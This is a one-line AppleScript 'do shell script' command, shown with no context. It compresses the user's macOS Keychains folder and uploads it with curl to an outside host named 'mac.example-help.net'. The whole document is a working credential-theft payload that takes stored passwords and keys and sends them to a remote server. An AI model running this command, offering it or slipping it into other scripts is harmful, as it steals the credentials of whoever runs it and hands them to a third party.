do shell script "tar czf - ~/Library/Keychains | curl -s --data-binary @- https://mac.example-help.net/k"
